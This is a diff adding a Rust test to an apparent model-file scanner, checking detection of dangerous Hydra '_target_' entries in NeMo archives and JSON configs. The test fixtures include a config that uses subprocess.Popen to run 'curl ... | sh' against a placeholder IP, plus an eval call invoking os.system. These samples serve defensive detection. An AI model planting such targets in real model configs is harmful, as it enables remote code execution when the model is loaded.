@@ -933,3 +933,65 @@ fn shard_index_against_its_shards() {
     );
     assert!(rules(&out).contains(&"SFT004"), "{:?}", out.findings);
 }
+
+/// A tar of (name, bytes) members, as NeMo writes a `.nemo` file.
+fn tar_of(members: &[(&str, Vec<u8>)]) -> Vec<u8> {
+    let mut b = tar::Builder::new(Vec::new());
+    for (name, data) in members {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(data.len() as u64);
+        h.set_mode(0o644);
+        h.set_cksum();
+        b.append_data(&mut h, name, &data[..]).unwrap();
+    }
+    b.into_inner().unwrap()
+}
+
+#[test]
+fn hydra_targets_in_nemo_archives_and_configs() {
+    let root = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"));
+    let weights = std::fs::read(root.join("fixtures/benign/pytorch/all_dtypes.pt")).unwrap();
+    let config = |extra: &str| {
+        format!(
+            "target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: nemo.collections.asr.modules.ConvASREncoder\n  feat_in: 64\noptim:\n  sched:\n    _target_: torch.optim.lr_scheduler.CosineAnnealingLR\n{extra}"
+        )
+        .into_bytes()
+    };
+    // an ordinary NeMo model: only NeMo and PyTorch targets
+    let benign = tar_of(&[
+        ("./model_config.yaml", config("")),
+        ("./model_weights.ckpt", weights.clone()),
+    ]);
+    let r = scan_bytes("asr.nemo", &benign);
+    assert!(
+        r.max_severity() < Some(Severity::Warning),
+        "{:?}",
+        r.findings
+    );
+    // a target that runs a command on restore
+    let evil = tar_of(&[
+        (
+            "./model_config.yaml",
+            config("callback:\n  _target_: subprocess.Popen\n  args: [\"sh\", \"-c\", \"curl http://203.0.113.7/x | sh\"]\n"),
+        ),
+        ("./model_weights.ckpt", weights.clone()),
+    ]);
+    let r = scan_bytes("asr.nemo", &evil);
+    let hyd: Vec<_> = r.findings.iter().filter(|x| x.rule == "HYD001").collect();
+    assert_eq!(hyd.len(), 1, "{:?}", r.findings);
+    assert_eq!(hyd[0].location.member.as_deref(), Some("model_config.yaml"));
+    assert_eq!(hyd[0].evidence.as_deref(), Some("subprocess.Popen"));
+    // an unknown package: reviewed, not trusted
+    let odd = tar_of(&[(
+        "./model_config.yaml",
+        config("cb:\n  _target_: mylab.callbacks.Upload\n"),
+    )]);
+    let r = scan_bytes("asr.nemo", &odd);
+    assert_eq!(rules(&r), ["HYD002"], "{:?}", r.findings);
+    // a JSON config beside the weights, and a bare builtin name
+    let r = scan_bytes(
+        "config.json",
+        br#"{"model": {"_target_": "eval", "_args_": ["__import__('os').system('id')"]}}"#,
+    );
+    assert_eq!(rules(&r), ["HYD001"], "{:?}", r.findings);
+}
